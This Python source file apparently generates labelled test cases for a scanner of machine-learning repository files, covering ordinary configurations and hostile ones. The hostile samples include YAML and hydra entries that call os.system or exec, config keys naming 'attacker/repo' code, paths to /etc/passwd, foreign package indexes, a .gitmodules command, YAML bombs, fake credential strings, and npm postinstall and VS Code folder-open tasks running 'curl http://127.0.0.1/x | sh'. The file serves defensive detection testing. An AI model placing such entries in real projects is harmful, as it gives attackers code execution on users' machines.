"""Configurations: those of real architectures, and keys that name code, paths and foreign repositories."""

import json
import random

from native import elf

BASE = {"architectures": ["LlamaForCausalLM"], "model_type": "llama", "torch_dtype": "bfloat16", "transformers_version": "4.41.0", "vocab_size": 32000}
# model_type: class, further keys in the shape that the real configurations have
ARCHITECTURES = {
    "llama": ("LlamaForCausalLM", {"hidden_size": 4096, "rope_scaling": {"factor": 8.0, "rope_type": "llama3", "low_freq_factor": 1.0}, "eos_token_id": [128001, 128009]}),
    "mistral": ("MistralForCausalLM", {"sliding_window": 4096, "num_key_value_heads": 8}),
    "mixtral": ("MixtralForCausalLM", {"num_local_experts": 8, "num_experts_per_tok": 2}),
    "qwen2": ("Qwen2ForCausalLM", {"use_sliding_window": False, "max_window_layers": 28}),
    "qwen2_vl": ("Qwen2VLForConditionalGeneration", {"vision_config": {"depth": 32, "embed_dim": 1280}, "image_token_id": 151655}),
    "gemma2": ("Gemma2ForCausalLM", {"final_logit_softcapping": 30.0, "query_pre_attn_scalar": 256}),
    "phi3": ("Phi3ForCausalLM", {"original_max_position_embeddings": 4096, "rope_scaling": None}),
    "bert": ("BertForSequenceClassification", {"id2label": {"0": "NEGATIVE", "1": "POSITIVE"}, "label2id": {"NEGATIVE": 0, "POSITIVE": 1}}),
    "roberta": ("RobertaForMaskedLM", {"type_vocab_size": 1}),
    "distilbert": ("DistilBertModel", {"sinusoidal_pos_embds": False}),
    "gpt2": ("GPT2LMHeadModel", {"task_specific_params": {"text-generation": {"do_sample": True, "max_length": 50}}}),
    "gpt_neox": ("GPTNeoXForCausalLM", {"rotary_pct": 0.25}),
    "t5": ("T5ForConditionalGeneration", {"task_specific_params": {"summarization": {"prefix": "summarize: "}}}),
    "bart": ("BartForConditionalGeneration", {"forced_eos_token_id": 2}),
    "whisper": ("WhisperForConditionalGeneration", {"suppress_tokens": [1, 2, 7], "begin_suppress_tokens": [220, 50257]}),
    "wav2vec2": ("Wav2Vec2ForCTC", {"conv_kernel": [10, 3, 3]}),
    "clip": ("CLIPModel", {"text_config": {"hidden_size": 512}, "vision_config": {"patch_size": 32}}),
    "vit": ("ViTForImageClassification", {"id2label": {str(n): f"class {n}" for n in range(20)}}),
    "detr": ("DetrForObjectDetection", {"backbone": "resnet50", "use_pretrained_backbone": True}),
    "segformer": ("SegformerForSemanticSegmentation", {"sr_ratios": [8, 4, 2, 1]}),
    "llava": ("LlavaForConditionalGeneration", {"text_config": {"_name_or_path": "lab/vicuna", "model_type": "llama"}, "vision_config": {"model_type": "clip_vision_model"}}),
    "mamba": ("MambaForCausalLM", {"state_size": 16}),
    "deepseek_v2": ("DeepseekV2ForCausalLM", {"kv_lora_rank": 512, "n_routed_experts": 64}),
    "marian": ("MarianMTModel", {"bad_words_ids": [[58100]], "decoder_start_token_id": 58100}),
    "vision-encoder-decoder": ("VisionEncoderDecoderModel", {"decoder": {"model_type": "trocr"}, "encoder": {"model_type": "vit"}}),
    "xlm-roberta": ("XLMRobertaModel", {"position_embedding_type": "absolute"}),
}
ORDINARY = {
    "generation_config.json": {"_from_model_config": True, "bos_token_id": 1, "do_sample": True, "eos_token_id": [2, 3], "temperature": 0.6, "top_p": 0.9, "transformers_version": "4.41.0"},
    "preprocessor_config.json": {"crop_size": {"height": 224, "width": 224}, "image_processor_type": "CLIPImageProcessor", "image_mean": [0.48, 0.45, 0.40], "resample": 3},
    "special_tokens_map.json": {"bos_token": {"content": "<s>", "lstrip": False, "normalized": False, "rstrip": False, "single_word": False}, "eos_token": "</s>"},
    "added_tokens.json": {"<|im_end|>": 32001, "<|im_start|>": 32000},
    "adapter_config.json": {"base_model_name_or_path": "lab/base", "peft_type": "LORA", "r": 8, "lora_alpha": 16, "target_modules": ["q_proj", "v_proj"], "task_type": "CAUSAL_LM", "auto_mapping": None},
    "model_index.json": {"_class_name": "StableDiffusionPipeline", "_diffusers_version": "0.27.0", "scheduler": ["diffusers", "PNDMScheduler"], "text_encoder": ["transformers", "CLIPTextModel"], "safety_checker": [None, None], "unet": ["diffusers", "UNet2DConditionModel"], "vae": ["diffusers", "AutoencoderKL"]},
    "scheduler_config.json": {"_class_name": "DDIMScheduler", "beta_schedule": "scaled_linear", "num_train_timesteps": 1000, "set_alpha_to_one": False},
    "sentence_bert_config.json": {"max_seq_length": 256, "do_lower_case": False},
    "config_sentence_transformers.json": {"__version__": {"sentence_transformers": "2.7.0", "pytorch": "2.2.0"}, "prompts": {"query": "Represent this sentence: "}, "default_prompt_name": None},
    "quantize_config.json": {"bits": 4, "group_size": 128, "desc_act": False, "quant_method": "gptq"},
    "processor_config.json": {"processor_class": "LlavaProcessor", "patch_size": 14},
    "trainer_state.json": {"best_metric": 0.91, "epoch": 3.0, "log_history": [{"epoch": n / 10, "loss": 1 / (n + 1), "step": n * 10} for n in range(30)], "total_flos": 1.2e15},
    "all_results.json": {"epoch": 3.0, "eval_accuracy": 0.91},
    "dataset_infos.json": {"default": {"description": "", "features": {"text": {"dtype": "string", "_type": "Value"}}, "splits": {"train": {"num_examples": 40}}}},
    "params.json": {"dim": 4096, "multiple_of": 256, "n_heads": 32, "norm_eps": 1e-05},
    "open_clip_config.json": {"model_cfg": {"embed_dim": 512, "vision_cfg": {"image_size": 224, "layers": 12}}, "preprocess_cfg": {"mean": [0.48, 0.45, 0.40]}},
    "mlc-chat-config.json": {"model_type": "llama", "quantization": "q4f16_1", "conv_template": {"name": "llama-3", "roles": {"user": "user"}}},
}
MODULES = [{"idx": 0, "name": "0", "path": "", "type": "sentence_transformers.models.Transformer"}, {"idx": 1, "name": "1", "path": "1_Pooling", "type": "sentence_transformers.models.Pooling"}, {"idx": 2, "name": "2", "path": "2_Normalize", "type": "sentence_transformers.models.Normalize"}]


def make(cases):
    family = cases.family("config")
    ordinary(family)
    foreign_code(family)
    class_paths(family)
    paths(family)
    yamls(family)
    packages(family)
    secrets(cases.family("secret"))


def config(**more):
    return json.dumps({**BASE, **more}, indent=2)


def ordinary(family):
    for kind, (name, more) in ARCHITECTURES.items():
        family.benign(f"architecture-{kind.replace('_', '-')}", "config.json", json.dumps({"_name_or_path": f"lab/{kind}", "architectures": [name], "model_type": kind, **more, "torch_dtype": "float32", "transformers_version": "4.41.0"}, indent=2), f"the configuration of {name}")
    for file, value in ORDINARY.items():
        family.benign(f"file-{file.split('.')[0].replace('_', '-')}", file, json.dumps(value, indent=2), f"an ordinary {file}")
    family.benign("sentence-transformer", "modules.json", json.dumps(MODULES), "the modules of a sentence transformer")
    family.benign("sentence-transformer", "1_Pooling/config.json", json.dumps({"word_embedding_dimension": 384, "pooling_mode_mean_tokens": True}), "its pooling")
    family.benign("local-code", "config.json", config(auto_map={"AutoConfig": "configuration_net.NetConfig", "AutoModelForCausalLM": "modeling_net.Net"}), "code of the same repository, which lies beside it and is scanned itself")
    family.benign("local-code", "configuration_net.py", "from transformers import PretrainedConfig\n\n\nclass NetConfig(PretrainedConfig):\n    model_type = 'net'\n", "the code beside it")
    family.benign("local-code", "modeling_net.py", "from transformers import PreTrainedModel\n\nfrom .configuration_net import NetConfig\n\n\nclass Net(PreTrainedModel):\n    config_class = NetConfig\n", "the code beside it")
    texts = [
        ("yaml-training", "config.yaml", "model:\n  name: net\n  layers: [64, 64]\noptimizer:\n  lr: 1.0e-4\n  betas: [0.9, 0.999]\ndata: &data\n  path: data/train\nvalidation:\n  <<: *data\n", "YAML of a training, with an anchor"),
        ("yaml-hydra", "hydra.yaml", "model:\n  _target_: torch.nn.Linear\n  in_features: 4\n  out_features: 2\noptimizer:\n  _target_: torch.optim.AdamW\n  lr: 0.001\n", "hydra targets of torch"),
        ("yaml-hydra-data", "data.yaml", "train:\n  _target_: torch.utils.data.DataLoader\n  dataset:\n    _target_: datasets.load_dataset\n    path: squad\n    split: train\n  collate_fn:\n    _target_: hydra.utils.get_method\n    path: torch.utils.data.default_collate\ntable:\n  _target_: pandas.read_csv\n  filepath_or_buffer: data/train.csv\nmetric:\n  _target_: evaluate.load\n  path: accuracy\n", "data, metrics and tables as hydra loads them"),
        ("yaml-hydra-lightning", "train.yaml", "defaults:\n  - _self_\nroot: ${oc.env:PROJECT_ROOT,.}\nnet: torch.nn.ReLU\ntrainer:\n  _target_: pytorch_lightning.Trainer\n  max_epochs: 10\n  callbacks:\n    - _target_: lightning.pytorch.callbacks.ModelCheckpoint\n      dirpath: ${root}/checkpoints\n    - _target_: pytorch_lightning.callbacks.EarlyStopping\n  plugins:\n    _target_: pytorch_lightning.plugins.environments.SLURMEnvironment\nmodel:\n  _target_: src.models.module.Net\n  optimizer:\n    _target_: torch.optim.AdamW\n    _partial_: true\n  scheduler:\n    _target_: transformers.get_cosine_schedule_with_warmup\n    _partial_: true\n  activation:\n    _target_: ${net}\nhelper:\n  _target_: transformers.pipeline\n  task: text-classification\n", "a training of lightning"),
        ("yaml-1-1", "notes.yaml", "# Notes\u2028in one comment\ntitle: \"a\u2028b\"\nempty:\nlist:\n- a\n- {b: c, d}\n- [e: f]\n? complex\n: value\ntext: |2-\n    indented\n  less\n...\n---\nsecond: 'it''s'\n", "odd and ordinary corners of YAML"),
        ("yaml-environment", "environment.yml", "name: net\nchannels:\n  - conda-forge\ndependencies:\n  - python=3.11\n  - pip:\n      - transformers==4.41.0\n", "an environment of conda"),
        ("yaml-nemo", "model_config.yaml", "target: nemo.collections.asr.models.EncDecCTCModel\npreprocessor:\n  _target_: nemo.collections.asr.modules.AudioToMelSpectrogramPreprocessor\n  sample_rate: 16000\noptim:\n  name: adamw\n", "a configuration of NeMo"),
        ("yaml-detectron", "config.yaml", "_BASE_: Base-RCNN-FPN.yaml\nMODEL:\n  WEIGHTS: model_final.pth\n  ANCHOR_GENERATOR:\n    SIZES: [[32], [64]]\n", "a configuration of Detectron"),
        ("yaml-date", "card.yaml", "date: 2024-01-02\nversion: !!str 1.0\nsize: 0x10\nok: yes\n", "plain tags of YAML"),
        ("toml", "pyproject.toml", "[project]\nname = \"net\"\nversion = \"1.0\"\ndependencies = [\"torch>=2\"]\n\n[build-system]\nrequires = [\"setuptools\"]\nbuild-backend = \"setuptools.build_meta\"\n", "a project's settings"),
        ("requirements", "requirements.txt", "torch>=2.1\ntransformers==4.41.0\naccelerate\nsentencepiece>=0.1.99  # tokenizer\n-r other.txt\n", "requirements"),
        ("ini", "settings.ini", "[training]\nlr = 0.001\nepochs = 3\n", "settings"),
        ("gitattributes", ".gitattributes", "*.bin filter=lfs diff=lfs merge=lfs -text\n*.safetensors filter=lfs diff=lfs merge=lfs -text\n", "what git keeps apart"),
        ("gitignore", ".gitignore", "__pycache__/\n*.pyc\n.env\n", "what git ignores"),
        ("ollama", "Modelfile", "FROM ./model.gguf\nTEMPLATE \"\"\"{{ .System }} {{ .Prompt }}\"\"\"\nPARAMETER stop \"<|im_end|>\"\nSYSTEM You are a careful assistant.\n", "a Modelfile"),
        ("spacy", "config.cfg", "[nlp]\nlang = \"en\"\npipeline = [\"tok2vec\",\"ner\"]\n\n[components.ner]\nfactory = \"ner\"\n\n[training.optimizer]\n@optimizers = \"Adam.v1\"\n", "a configuration of spaCy"),
        ("fairseq", "dict.txt", "the 1000\nof 900\n", "a dictionary of fairseq"),
        ("json-comment", "settings.jsonc", "{\n  // a comment\n  \"a\": 1,\n}\n", "JSON with a comment"),
        ("mlflow", "MLmodel", "artifact_path: model\nflavors:\n  python_function:\n    loader_module: mlflow.sklearn\n    model_path: model.pkl\n    python_version: 3.11.4\n  sklearn:\n    serialization_format: cloudpickle\nmodel_uuid: 0\n", "what MLflow writes beside a model"),
    ]
    for case, file, text, note in texts:
        family.benign(f"text-{case}", file, text, note)


def foreign_code(family):
    rows = [
        ("config.json", {"auto_map": {"AutoModel": "attacker/repo--modeling_net.Net"}}, "auto-map"),
        ("config.json", {"auto_map": {"AutoConfig": "configuration_net.NetConfig", "AutoModel": "attacker/repo--modeling_net.Net"}}, "auto-map-second"),
        ("tokenizer_config.json", {"auto_map": {"AutoTokenizer": ["attacker/repo--tokenization_net.Slow", None]}}, "auto-map-tokenizer"),
        ("preprocessor_config.json", {"auto_map": {"AutoProcessor": "attacker/repo--processing_net.P"}}, "auto-map-processor"),
        ("config.json", {"custom_pipelines": {"net": {"impl": "attacker/repo--pipeline_net.P", "pt": ["AutoModel"]}}}, "custom-pipelines"),
        ("config.json", {"text_config": {"auto_map": {"AutoModel": "attacker/repo--m.N"}}}, "auto-map-nested"),
        ("model_index.json", {"_class_name": ["pipeline", "MyPipeline"], "unet": ["attacker_package", "UNet"]}, "diffusers-package"),
        ("adapter_config.json", {"peft_type": "LORA", "auto_mapping": {"base_model_class": "Net", "parent_library": "attacker_package.modeling"}}, "peft-library"),
        ("modules.json", None, "modules-package"),
        ("config.json", {"auto_map": {"AutoModel": "../other/modeling_net.Net"}}, "auto-map-climbs"),
    ]
    for file, more, case in rows:
        text = json.dumps([*MODULES, {"idx": 3, "name": "3", "path": "3", "type": "attacker_package.Layer"}]) if more is None else json.dumps(more, indent=2)
        family.suspicious(f"foreign-{case}", file, text, f"names code of somebody else or of nobody here: {case}")
    family.suspicious("foreign-escaped", "config.json", '{"auto_\\u006dap": {"AutoModel": "attacker/repo--modeling_net.Net"}}', "the key has an escape")
    family.suspicious("foreign-twice", "config.json", '{"auto_map": {"AutoModel": "attacker/repo--m.N"}, "auto_map": {}}', "the key twice")
    family.suspicious("foreign-case", "Config.JSON", json.dumps({"auto_map": {"AutoModel": "attacker/repo--m.N"}}), "the file's name in other letters")


def class_paths(family):
    rows = [
        ("modules-os", "modules.json", json.dumps([{"idx": 0, "name": "0", "path": "", "type": "os.system"}])),
        ("modules-subprocess", "modules.json", json.dumps([{"idx": 0, "path": "", "type": "subprocess.Popen"}])),
        ("diffusers-os", "model_index.json", json.dumps({"_class_name": "StableDiffusionPipeline", "unet": ["os", "system"]})),
        ("diffusers-builtins", "model_index.json", json.dumps({"_class_name": "P", "vae": ["builtins", "exec"]})),
        ("diffusers-climbs", "model_index.json", json.dumps({"_class_name": ["../../evil", "P"]})),
        ("mlflow-loader", "MLmodel", "flavors:\n  python_function:\n    loader_module: os\n    data: x\n"),
        ("mlflow-code", "MLmodel", "flavors:\n  python_function:\n    code: ../../../tmp\n    loader_module: payload\n"),
        ("mlflow-environment", "MLmodel", "flavors:\n  python_function:\n    loader_module: mlflow.sklearn\n    model_path: /etc/passwd\n"),
        ("parent-library", "adapter_config.json", json.dumps({"peft_type": "LORA", "auto_mapping": {"base_model_class": "system", "parent_library": "os"}})),
        ("torchserve", "MAR-INF/MANIFEST.json", json.dumps({"model": {"handler": "os:system", "modelName": "x"}})),
        ("bentoml", "bento.yaml", "service: os:system\n"),
        ("ludwig", "model_hyperparameters.json", json.dumps({"custom": {"_target_": "os.system", "command": "echo"}})),
        ("logging", "logging.yaml", "version: 1\nhandlers:\n  x:\n    (): os.system\n    command: echo weighbridge\n"),
        ("langchain", "chain.json", json.dumps({"_type": "llm_chain", "llm": {"_type": "constructor", "id": ["os", "system"]}, "template_format": "jinja2", "template": "{{ ''.__class__ }}"})),
    ]
    for case, file, text in rows:
        family.labelled("suspicious" if case == "bentoml" else "malicious", f"class-{case}", file, text, f"names a callable of the system as a class: {case}")


def paths(family):
    rows = [
        ("tokenizer", "tokenizer_config.json", {"tokenizer_file": "../../../etc/passwd"}),
        ("vocabulary", "tokenizer_config.json", {"vocab_file": "/etc/passwd"}),
        ("adapter", "adapter_config.json", {"base_model_name_or_path": "../../../../etc"}),
        ("modules", "modules.json", [{"idx": 0, "path": "../../../tmp", "type": "sentence_transformers.models.Transformer"}]),
        ("weights", "pytorch_model.bin.index.json", {"weight_map": {"a": "../../../etc/passwd"}}),
        ("weights-absolute", "diffusion_pytorch_model.safetensors.index.json", {"weight_map": {"a": "/proc/self/mem"}}),
        ("weights-pickle", "model.safetensors.index.json", {"weight_map": {"a": "http://127.0.0.1/pytorch_model.bin"}}),
        ("quantize", "quantize_config.json", {"model_file_base_name": "../../../etc/passwd"}),
    ]
    for case, file, value in rows:
        family.suspicious(f"path-{case}", file, json.dumps(value), f"a path outside the repository: {case}")
    deep = "[" * 100000 + "]" * 100000
    family.suspicious("json-deep", "config.json", '{"a": ' + deep + "}", "a hundred thousand brackets")
    family.suspicious("json-cut", "config.json", config()[:-30], "a cut configuration")
    family.suspicious("json-two", "config.json", config() + config(), "two objects in one file")
    family.malicious("config-elf", "config.json", elf(), "a program under the name of a configuration")


def yamls(family):
    rows = [
        ("object-apply", "!!python/object/apply:os.system ['echo weighbridge']\n"),
        ("object-new", "!!python/object/new:os.system ['echo weighbridge']\n"),
        ("module", "!!python/module:antigravity\n"),
        ("name", "a: !!python/name:os.system\n"),
        ("object", "a: !!python/object:subprocess.Popen\n  args: [\"true\"]\n"),
        ("long-tag", "a: !<tag:yaml.org,2002:python/object/apply:os.system> ['echo']\n"),
        ("tag-handle", "%TAG !p! tag:yaml.org,2002:python/object/\n---\na: !p!apply:os.system ['echo']\n"),
        ("tag-escaped", "a: !!python/object/apply%3Aos.system ['echo']\n"),
        ("deep", "a:\n  - b:\n      c: [1, {d: !!python/object/apply:os.system ['echo']}]\n"),
        ("second", "a: 1\n---\n!!python/object/apply:os.system ['echo']\n"),
        ("key", "? !!python/object/apply:os.system ['echo']\n: 1\n"),
        ("anchored", "a: &x !!python/object/apply:os.system ['echo']\nb: *x\n"),
        ("tuple-eval", "a: !!python/object/apply:builtins.eval ['1']\n"),
        ("numpy", "a: !!python/object/apply:numpy.load ['/tmp/x']\n"),
        ("ruby", "a: !ruby/object:Gem::Installer\n  i: x\n"),
        ("javascript", "a: !!js/function 'function () { return 1 }'\n"),
        ("java", "a: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://127.0.0.1/\"]]]]\n"),
        ("include", "a: !include /etc/passwd\n"),
        ("next-line", "# a comment\u0085a: !!python/object/apply:os.system ['echo']\n"),
        ("line-separator", "a: 1 # a comment\u2028b: !!python/object/apply:os.system ['echo']\n"),
        ("paragraph-separator", "a: |\n  text\u2029b: !!python/object/apply:os.system ['echo']\n"),
        ("handle-of-before", "%TAG !! tag:example.org,2024:\n---\na: !!int 1\n---\nb: !!python/object/apply:os.system ['echo']\n"),
        ("handle-after", "a: 1\n%TAG ! tag:yaml.org,2002:python/\n---\n!object/apply:os.system ['echo']\n"),
        ("handle-escaped", "%TAG !p! tag:yaml.org,2002:%70ython/\n---\na: !p!object/apply%3Aos.system ['echo']\n"),
        ("handle-comma", "%TAG ! tag:yaml.org\n---\n[!,2002:python/object/apply:os.system ['echo']]\n"),
        ("flow-key", "{? !!python/object/apply:os.system ['echo'] : 1}\n"),
        ("on-key", "!!python/name:os.system x: 1\n"),
        ("indented-block", "a: |2\n    text\nb: !!python/object/apply:os.system ['echo']\n"),
        ("tab", "a:\t!!python/object/apply:os.system ['echo']\n"),
        ("second-mark", "a: 1\n\ufeffb: !!python/object/apply:os.system ['echo']\n"),
    ]
    for case, text in rows:
        label = "suspicious" if case == "include" else "malicious"
        family.labelled(label, f"yaml-{case}", "config.yaml", text, f"a tag of YAML: {case}")
    hydra = [
        ("os", "model:\n  _target_: os.system\n  command: echo\n"),
        ("subprocess", "a:\n  - _target_: subprocess.Popen\n    args: [\"true\"]\n"),
        ("exec", "a: {_target_: builtins.exec, _args_: [\"pass\"]}\n"),
        ("method", "a:\n  _target_: hydra.utils.get_method\n  path: os.system\n"),
        ("escaped", "a:\n  \"_t\\x61rget_\": os.system\n"),
        ("partial", "a:\n  _target_: os.system\n  _partial_: true\n  command: echo\n"),
        ("torch-load", "a:\n  _target_: torch.load\n  f: x.pt\n"),
        ("resolver", "a: ${oc.env:HF_TOKEN}\nb: ${eval:'__import__(\"os\")'}\n"),
        ("list", "callbacks: [{_target_: shutil.rmtree, path: /tmp/weighbridge}]\n"),
        ("target", "model:\n  target: os.system\n  params: {command: echo}\n"),
        ("class-path", "model:\n  class_path: os.system\n  init_args: {command: echo}\n"),
        ("alias-module", "a:\n  _target_: enum.bltns.exec\n  _args_: [pass]\n"),
        ("hop", "a:\n  _target_: transformers.utils.os.system\n  command: echo\n"),
        ("method-caller", "a:\n  _target_: operator.methodcaller\n  _args_: [system, echo]\n"),
        ("method-by-place", "a:\n  _target_: hydra.utils.get_method\n  _args_: [os.system]\n"),
        ("interpolated", "a: os.\nb: system\nc:\n  _target_: ${a}${b}\n  command: echo\n"),
        ("interpolated-default", "a:\n  _target_: ${oc.env:NOT_SET,os.system}\n  command: echo\n"),
        ("merged", "p: &p {params: {command: echo}}\nm:\n  <<: *p\n  target: os.system\n"),
        ("alias-key", "k: &k _target_\nm:\n  *k : os.system\n"),
        ("comment-ends", "# a comment\u2028a: {_target_: os.system, command: echo}\n"),
        ("shell-tool", "a:\n  _target_: langchain_community.tools.ShellTool\n"),
    ]
    for case, text in hydra:
        family.labelled("suspicious" if case == "resolver" else "malicious", f"hydra-{case}", "config.yaml", text, f"a target of hydra: {case}")
    data = [
        ("dataset-trusted", "a:\n  _target_: datasets.load_dataset\n  path: someone/data\n  trust_remote_code: true\n"),
        ("dataset-script", "a:\n  _target_: datasets.load_dataset\n  path: https://example.net/script.py\n"),
        ("metric", "a:\n  _target_: evaluate.load\n  path: someone/metric\n"),
        ("pipeline-trusted", "a:\n  _target_: transformers.pipeline\n  model: someone/model\n  trust_remote_code: true\n"),
    ]
    for case, text in data:
        family.suspicious(f"hydra-{case}", "config.yaml", text, f"code of another repository: {case}")
    family.suspicious("hydra-unknown", "config.yaml", "a:\n  _target_: mypackage.models.Net\n", "a hydra target of a package that nobody knows")
    merges = "a: &a {x: 1}\n" + "".join(f"{chr(98 + n)}: &{chr(98 + n)} {{k1: *{chr(97 + n)}, k2: *{chr(97 + n)}, k3: *{chr(97 + n)}}}\n" for n in range(24))
    family.suspicious("yaml-bomb-maps", "hparams.yaml", merges, "maps of anchors that grow without end")
    family.suspicious("yaml-bomb", "config.yaml", "a: &a [x,x]\n" + "".join(f"{chr(98 + n)}: &{chr(98 + n)} [" + ",".join([f"*{chr(97 + n)}"] * 9) + "]\n" for n in range(20)), "anchors that grow without end")


def packages(family):
    rows = [
        ("index", "requirements.txt", "--index-url http://127.0.0.1/simple\ntorch\n", "a foreign index"),
        ("extra-index", "requirements.txt", "--extra-index-url https://packages.example.net/simple\ntorch\n", "a second index"),
        ("short-option", "requirements.txt", "-i https://packages.example.net/simple\ntorch\n", "a foreign index by its short option"),
        ("equals", "requirements.txt", "--index-url=https://packages.example.net/simple\n", "a foreign index with an equals sign"),
        ("find-links", "requirements.txt", "-f http://127.0.0.1/wheels\nx\n", "a page of wheels"),
        ("trusted", "requirements.txt", "--trusted-host packages.example.net\n", "switches the certificate's check off"),
        ("address", "requirements.txt", "net @ http://127.0.0.1/net.whl\n", "a package from an address"),
        ("git", "requirements.txt", "git+http://127.0.0.1/attacker/repo.git\n", "a package from a repository"),
        ("local", "requirements.txt", "./net-1.0-py3-none-any.whl\n", "a package that lies beside it"),
        ("editable", "requirements.txt", "-e git+https://example.net/a/b.git#egg=b\n", "a package from a repository, editable"),
        ("continuation", "requirements.txt", "torch \\\n  --index-url https://packages.example.net/simple\n", "over two lines"),
        ("included", "requirements.txt", "-r http://127.0.0.1/more.txt\n", "requirements from elsewhere"),
        ("conda", "conda.yaml", "channels:\n  - http://127.0.0.1/conda\ndependencies:\n  - pip:\n    - --extra-index-url http://127.0.0.1/simple\n    - x\n", "a foreign channel"),
        ("poetry", "pyproject.toml", "[[tool.poetry.source]]\nname = \"x\"\nurl = \"https://packages.example.net/simple\"\n", "a foreign source"),
        ("uv", "pyproject.toml", "[[tool.uv.index]]\nurl = \"https://packages.example.net/simple\"\n", "a foreign index"),
        ("pip-conf", "pip.conf", "[global]\nindex-url = http://127.0.0.1/simple\n", "settings of pip"),
        ("pipfile", "Pipfile", "[[source]]\nurl = \"http://127.0.0.1/simple\"\nname = \"x\"\n", "a foreign source"),
        ("npm", "package.json", json.dumps({"scripts": {"postinstall": "curl http://127.0.0.1/x | sh"}}), "a script of npm that runs by itself"),
    ]
    for case, file, text, note in rows:
        family.labelled("malicious" if case == "npm" else "suspicious", f"package-{case}", file, text, note)
    family.malicious("git-config", ".gitmodules", "[submodule \"x\"]\n\tpath = x\n\turl = -u./payload\n\tupdate = !sh -c 'echo weighbridge'\n", "a submodule that runs a command")
    family.malicious("vscode", ".vscode/tasks.json", json.dumps({"version": "2.0.0", "tasks": [{"label": "x", "type": "shell", "command": "curl http://127.0.0.1/x | sh", "runOptions": {"runOn": "folderOpen"}}]}), "a task that runs when a folder is opened")


def drawn(alphabet, count, seed):
    """A text drawn at random, so that what looks like a key was never one."""
    return "".join(random.Random(f"secret {seed}").choices(alphabet, k=count))


def secrets(family):
    letters = "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789"
    upper, digits = "ABCDEFGHIJKLMNOPQRSTUVWXYZ234567", "0123456789"
    shapes = {
        "hub": "hf_" + drawn(letters, 34, 1),
        "aws": "AKIA" + drawn(upper, 16, 2),
        "github": "ghp_" + drawn(letters, 36, 3),
        "github-fine": "github_pat_" + drawn(letters, 22, 4) + "_" + drawn(letters, 59, 5),
        "openai": "sk-" + drawn(letters, 20, 6) + "T3BlbkFJ" + drawn(letters, 20, 7),
        "openai-project": "sk-proj-" + drawn(letters, 48, 8),
        "anthropic": "sk-ant-api03-" + drawn(letters, 93, 9) + "AA",
        "slack": "xoxb-" + drawn(digits, 12, 10) + "-" + drawn(digits, 12, 11) + "-" + drawn(letters, 24, 12),
        "google": "AIza" + drawn(letters, 35, 13),
        "gitlab": "glpat-" + drawn(letters, 20, 14),
        "stripe": "sk_live_" + drawn(letters, 24, 15),
        "wandb": drawn("0123456789abcdef", 40, 16),
        "sendgrid": "SG." + drawn(letters, 22, 17) + "." + drawn(letters, 43, 18),
        "twilio": "SK" + drawn("0123456789abcdef", 32, 19),
        "jwt": "eyJhbGciOiJIUzI1NiJ9." + "eyJzdWIiOiJ3ZWlnaGJyaWRnZSJ9" + "." + drawn(letters, 43, 21),
    }
    places = [("train.sh", "#!/bin/sh\nexport TOKEN={}\n"), (".env", "API_KEY={}\n"), ("config.yaml", "logging:\n  api_key: {}\n"), ("notes.txt", "my key is {}\n"), ("settings.json", '{{"api_key": "{}"}}\n'), ("README.md", "# Model\n\n```\nlogin(token=\"{}\")\n```\n")]
    for at, (case, value) in enumerate(shapes.items()):
        file, text = places[at % len(places)]
        file, text = (".env", "WANDB_API_KEY={}\n") if case == "wandb" else (file, text)
        family.suspicious(case, file, text.format(value), f"what has the shape of a key: {case}")
    body = "\n".join(drawn(letters + "+/", 64, f"key {n}") for n in range(12))
    for kind in ("RSA PRIVATE KEY", "OPENSSH PRIVATE KEY", "EC PRIVATE KEY", "PRIVATE KEY"):
        family.suspicious(f"key-{kind.lower().replace(' ', '-')}", "id_key", f"-----BEGIN {kind}-----\n{body}\n-----END {kind}-----\n", f"what has the shape of a private key: {kind}")
    family.suspicious("account", "service.json", json.dumps({"type": "service_account", "project_id": "x", "private_key_id": drawn("0123456789abcdef", 40, 22), "private_key": f"-----BEGIN PRIVATE KEY-----\n{body}\n-----END PRIVATE KEY-----\n"}), "what has the shape of a cloud's account")
    family.suspicious("password-address", "data.yaml", f"url: postgres://user:{drawn(letters, 16, 23)}@db.example.net/x\n", "a password in an address")
    family.suspicious("netrc", ".netrc", f"machine example.net login me password {drawn(letters, 16, 24)}\n", "a password of netrc")
    family.suspicious("notebook-output", "demo.ipynb", json.dumps({"cells": [{"cell_type": "code", "execution_count": 1, "metadata": {}, "source": ["token"], "outputs": [{"output_type": "stream", "name": "stdout", "text": [shapes["hub"] + "\n"]}]}], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}), "a key in a notebook's output")
    family.benign("placeholder", "README.md", "# Use\n\n```python\nlogin(token=\"hf_xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx\")\nos.environ['OPENAI_API_KEY'] = 'sk-...'\n```\n", "placeholders, which are no keys")
    family.benign("hashes", "checksums.txt", "".join(f"{drawn('0123456789abcdef', 64, n)}  model-{n}.bin\n" for n in range(10)), "checksums, which are no keys")
